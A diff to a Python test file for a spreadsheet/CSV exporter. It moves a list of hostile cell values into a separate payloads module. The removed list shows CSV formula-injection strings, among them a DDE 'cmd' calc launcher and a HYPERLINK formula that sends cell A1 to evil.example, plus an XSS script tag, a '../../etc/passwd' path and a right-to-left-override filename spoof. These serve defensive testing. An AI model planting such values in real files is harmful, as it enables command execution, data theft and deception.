@@ -20,6 +20,7 @@ import pytest
 import record
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
+from payloads import LINES
 from sheets import catalog, sheet, texts
 
 CATALOG = catalog()
@@ -30,37 +31,7 @@ MIXED = sheet("DPNUDP NUDPNUDPNU DPNUDPNUD")
 STAMP = "20261123T000000Z"
 FIRST_ITEM = 12
 
-HOSTILE = [
-    "=1+1",
-    "＝cmd|' /C calc'!A0",
-    " \u3000＋1",
-    "\u200b-1",
-    "@SUM(A1)",
-    '=HYPERLINK("http://evil.example/?"&A1,"押す")',
-    "'=1",
-    '",=1+1,"',
-    "a;=1+1",
-    "-5",
-    "−1",
-    "ー",
-    "[押す](https://evil.example)",
-    "![x](https://evil.example/x.png)",
-    "<img src=x onerror=alert(1)><script>",
-    "&lt;b&gt; &#60;i&#62;",
-    "https://evil.example www.evil.example/ evil.example a@evil.example",
-    "@everyone #12 !3 `x` **y** __z__ ~~w~~ ^v^ $u$ :smile: {#id} [^1]: *[x]: y",
-    "# 見出し",
-    "| a | b |",
-    "- [x] 1. > 引用",
-    "\\",
-    "[x]: https://evil.example",
-    "会社\u202egpj.exe",
-    "NUL",
-    "../../etc/passwd",
-    "a" * 100,
-    "🏪" * 100,
-    "が゙👨‍👩‍👧",
-]
+HOSTILE = [*LINES, "a" * 100, "🏪" * 100]
 # not from all of Unicode: that takes Hypothesis a second to prepare on a fresh machine
 SIGNS = "=+-@＝＋－＠﹣ー'\",;\\|<>[](){}!*_`~#&$^:/.?"
 HIDDEN = " \u00a0\u3000\u2028\u202e\ufeff\u200b"
@@ -175,8 +146,10 @@ def test_libreoffice_sees_the_same_cells(tmp_path):
     """LibreOffice reads the same texts and numbers, and no formula."""
     made = record_of("=1+1")
     # the owners begin with the first texts, the notes with the last ones
+    # XML, and so a spreadsheet's file, has no U+FFFE
+    fit = [text for text in HOSTILE if "\ufffe" not in text]
     for index, planned in enumerate(made["items"].values()):
-        planned.update(owner=HOSTILE[index], note="\n".join(HOSTILE[-1 - index :] + HOSTILE))
+        planned.update(owner=fit[index], note="\n".join(fit[-1 - index :] + fit))
     file = tmp_path / "check.csv"
     file.write_bytes(export.csv(CATALOG, TEXTS, made).encode())
     profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
